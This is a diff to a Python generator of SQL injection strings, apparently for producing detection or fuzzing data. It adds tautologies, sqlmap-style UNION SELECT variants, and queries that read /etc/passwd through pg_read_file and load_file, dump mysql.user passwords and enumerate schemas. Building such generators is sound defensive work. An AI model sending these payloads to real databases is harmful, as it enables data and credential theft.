@@ -242,7 +242,7 @@ class _Ctx:
         self.parens = weighted(rng, ((0, 6.0), (1, 2.5), (2, 1.0), (3, 0.3)))
         base = _base_value(rng)
         if not self.quote and base and not base.lstrip("-").replace(".", "").isdigit():
-            base = rng.choice(["1", str(rng.randint(2, 999)), "-1", "0"])
+            base = rng.choice(["1", str(rng.randint(2, 999)), "-1", "0", ""])
         like = self.quote and rng.random() < 0.06
         if like:
             base = rng.choice(["%", "a%", "%test", f"{rand_word(rng, 2, 5)}%"])
@@ -301,6 +301,8 @@ _TAUTOLOGIES_NUM = (
     "1 like 1", "1 between 0 and 2", "1 in (1)", "2-1=1", "0x1=0x1", "1 is not null",
     "{n} in ({n},{n2})", "ascii('a')=97", "char(49)=char(49)", "1=1 is true", "3>=2",
     "isnull(null)", "'{w}'='{w}'", "'1'='1'", "'a'='a'", "'x' like 'x'", "''=''", "1 rlike 1",
+    "x=x", "a=a", "{n}-{n}=0", "'ab'='a'+'b'", "'ab'='a'||'b'", "'{w}' like '{w}%'", "(exists(select 1))",
+    "{n}={n} and {n2}={n2}", "'1'", "0=0",
 )  # fmt: skip
 _TAUT_OPEN = (  # the last string literal is left open for the query's own closing quote
     "{q}1{q}={q}1", "{q}a{q}={q}a", "{q}x{q}={q}x", "{q}{w}{q}={q}{w}", "{q}{q}={q}",
@@ -336,14 +338,17 @@ def _tautology(rng: random.Random, ctx: _Ctx, fl: dict[str, Filler]) -> tuple[st
 def _union(rng: random.Random, ctx: _Ctx, fl: dict[str, Filler]) -> tuple[str, str]:
     dbms = ctx.dbms
     ncols = weighted(rng, ((1, 1.0), (2, 2.0), (3, 2.0), (4, 1.5), (5, 1.0), (6, 0.8)))
-    ncols += rng.choice([0, 0, 0, rng.randint(1, 8)])
-    style = rng.choice(["null", "num", "num", "mixed", "str"])
+    ncols += rng.choice([0, 0, 0, rng.randint(1, 8), rng.randint(5, 25)])
+    style = rng.choice(["null", "num", "num", "mixed", "str", "same"])
+    same = str(rng.randint(1000, 9999))
     cols: list[str] = []
     for i in range(ncols):
         if style == "null":
             cols.append("null" if rng.random() < 0.9 else "NULL")
         elif style == "num":
             cols.append(str(i + 1))
+        elif style == "same":  # sqlmap repeats one random marker number
+            cols.append(same)
         elif style == "str":
             cols.append(rng.choice(["'a'", f"'{rand_word(rng, 2, 6)}'", "null", str(i + 1)]))
         else:
@@ -622,6 +627,10 @@ _SPECIAL = (
     "{n}' and 1=(select 1 from dual where 1={n})--", "x' and 0x61646d696e like {col}--",
     "1' and substring(@@version,1,1)=5--", "1 and (select substring(@@version,1,1))='5'",
     "'||(select {leak})||'", "'||(select user from dual)||'", "' + (select @@version) + '",
+    "select current_setting('data_directory');", "select pg_read_file('/etc/passwd',0,200);", "select * from syscat.dbauth",
+    "select name from master..sysdatabases", "select load_file('/etc/passwd')", "select @@version", "select user,password from mysql.user",
+    "select table_name from information_schema.tables", "select banner from v$version", "select sqlite_version()",
+    "{n} and ({n}={n2})*{n2}", "-{n}' or ({n}={n2})*{n2} and '{w}'='{w}", "' union all select 'inj'||'ect'||'xxx',2,3,4,5--",
     "1';exec('sel'+'ect * fr'+'om {tbl}')--", "'; select * from {tbl} where 'a'='a",
     "%' and 1=0 union select {leak},null-- ", "%' or 1=1 and '%'='", "a%' and 1=1 and '%'='",
     # auth-bypass classics
